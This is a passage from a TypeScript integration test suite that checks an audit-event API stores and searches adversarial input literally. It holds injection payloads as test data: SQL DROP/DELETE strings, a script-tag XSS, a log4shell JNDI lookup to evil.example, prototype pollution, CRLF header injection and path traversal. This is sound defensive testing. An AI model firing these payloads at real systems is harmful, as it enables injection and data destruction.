    "O'Brien's account",
    "'; DROP TABLE auditevents; --",
    "Robert'); DELETE FROM auditevents WHERE ('1'='1",
    '100% done',
    'file_name_with_underscores',
    'back\\slash and \\\\ double',
    'quote " double and `backtick`',
    'emoji 😀🎉 and a flag 🇺🇸',
    'RTL \u202Eexe.txt\u202C and \u200F mark',
    'zero\u200Bwidth and \uFEFF inside',
    'tab\tnewline\nCRLF\r\nend',
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is the point (log4shell-style)
    '${jndi:ldap://evil.example/a}',
    '$1 $$ :name ? placeholders',
    'decomposed e\u0301 and composed \u00e9',
    'all three %_\\ together',
    '  leading and trailing spaces  ',
    '中文 русский العربية',
    'max code point \u{10FFFF}',
    `long ${'y'.repeat(9_995)}`,
  ];
  const USERS = ["O'Brien", "'; --", '%_\\', '😀'.repeat(10), 'e\u0301', '  padded  '];
  // Raw JSON: in a JS object literal __proto__ would set the prototype instead of being a key.
  const ADDITIONAL_JSON = JSON.stringify({
    sql: "'; DROP TABLE x; --",
    like: '%_\\',
    nested: { emoji: '😀', list: [1, 'two', null, true, 1.5, { deep: '\u202E' }] },
    'quote"key': 'v',
    '': 'empty key',
    constructor: 'c',
    toString: 'not a function',
    big: Number.MAX_SAFE_INTEGER,
    negative: -0.5,
    ключ: 'значение',
  }).replace('{', '{"__proto__":{"polluted":true},');
  const additional = JSON.parse(ADDITIONAL_JSON) as Record<string, unknown>;
  /** JSON with keys sorted at every level: jsonb keeps its own key order. */
  const canonical = (v: unknown): string =>
    JSON.stringify(v, (_k, value) =>
      value && typeof value === 'object' && !Array.isArray(value)
        ? Object.fromEntries(
            Object.keys(value)
              .sort()
              .map((k) => [k, value[k]]),
          )
        : value,
    );
  const stored = new Map<number, { message: string; user: string }>();

  interface Found {
    Id: number;
    Message: string;
    UserName: string;
    AdditionalData: unknown;
  }
  const search = async (params: Record<string, string>) => {
    const qs = new URLSearchParams({ company_id: String(company), page_size: '100', ...params });
    const response = await call(`${BASE}/search?${qs}`, { headers: { 'CSIQ-APIKEY': KEY } });
    expect(response.status, await response.clone().text()).toBe(200);
    return ((await response.json()) as { events: Found[] }).events;
  };

  it('create stores each one and search returns it identical, byte for byte', async () => {
    expect(Object.keys(additional)).toContain('__proto__');
    for (const [i, message] of MESSAGES.entries()) {
      const user = USERS[i % USERS.length] as string;
      const body = JSON.stringify({ ...event({ company_id: company, message, user }), additional_data: 'X' }).replace(
        '"X"',
        ADDITIONAL_JSON,
      );
      const response = await postJson(`${BASE}/create`, body);
      expect(response.status, `${message.slice(0, 40)}: ${await response.clone().text()}`).toBe(201);
      stored.set(((await response.json()) as { id: number }).id, { message, user });
    }
    const events = await search({});
    expect(events.length).toBe(MESSAGES.length);
    for (const found of events) {
      const expected = stored.get(found.Id);
      expect(found.Message).toBe(expected?.message);
      expect(found.UserName).toBe(expected?.user);
      expect(canonical(found.AdditionalData)).toBe(canonical(additional));
    }
    // Nothing leaked onto Object.prototype on the way.
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    // And nothing was dropped: the tables are still there and hold every row.
    const [row] = await query<{ n: number }>('SELECT count(*)::int AS n FROM auditevents WHERE companyid = $1', [
      company,
    ]);
    expect(row?.n).toBe(MESSAGES.length);
  });

  it.each(['%', '_', '\\', "'", '%_\\', "'; DROP", '😀', '\u202E', '"', '$$', 'e\u0301', '  leading', "O'BRIEN"])(
    'message_pattern %j matches literally (case-insensitive), never as a wildcard',
    async (pattern) => {
      const expected = MESSAGES.filter((m) => m.toLowerCase().includes(pattern.toLowerCase())).sort();
      const found = (await search({ message_pattern: pattern })).map((e) => e.Message).sort();
      expect(found).toEqual(expected);
    },
  );

  it('exact filters are exact: a wildcard in user, functionality or event_type matches nothing else', async () => {
    expect((await search({ user: '%' })).length).toBe(0);
    expect((await search({ user: '_' })).length).toBe(0);
    expect((await search({ user: '%_\\' })).map((e) => e.UserName)).toEqual(
      MESSAGES.filter((_, i) => USERS[i % USERS.length] === '%_\\').map(() => '%_\\'),
    );
    expect((await search({ user: "O'Brien" })).every((e) => e.UserName === "O'Brien")).toBe(true);
    expect((await search({ functionality: '%' })).length).toBe(0);
    expect((await search({ event_type: 'Log%' })).length).toBe(0);
    expect((await search({ functionality: "Authenticate' OR '1'='1" })).length).toBe(0);
    expect((await search({ functionality: 'Authenticate' })).length).toBe(MESSAGES.length);
  });
});

describe('odd but harmless input is tolerated', () => {
  it('a UTF-8 byte order mark before the JSON is ignored (RFC 8259 allows it), the message is stored without it', async () => {
    const company = uniqueCompanyId();
    const response = await postJson(
      `${BASE}/create`,
      `\ufeff${JSON.stringify(event({ company_id: company, message: 'bom' }))}`,
    );
    expect(response.status).toBe(201);
    const rows = await query<{ message: string }>('SELECT message FROM auditevents WHERE companyid = $1', [company]);
    expect(rows).toEqual([{ message: 'bom' }]);
  });

  it('an unsafe X-Request-ID is replaced by a fresh one, never echoed', async () => {
    for (const id of [
      '<script>alert(1)</script>',
      'has space',
      'x'.repeat(65),
      'semi;colon',
      'caf\u00e9',
      '../../etc',
    ]) {
      const response = await call(`${API}/healthcheck`, { headers: { 'X-Request-ID': id } });
      expect(response.headers.get('X-Request-ID'), id).toMatch(/^[0-9a-f-]{36}$/);
    }
    // CR and LF cannot even be sent: the runtime refuses to build such a header.
    expect(() => new Headers({ 'X-Request-ID': 'a\r\nSet-Cookie: x=1' })).toThrow();
  });

  it('routes without parameters ignore unknown ones, as FastAPI does', async () => {
    const response = await call(`${BASE}/get-all-auditfunctionalities?x=1&y=%27`, { headers: { 'CSIQ-APIKEY': KEY } });
    expect(response.status).toBe(200);
  });
});
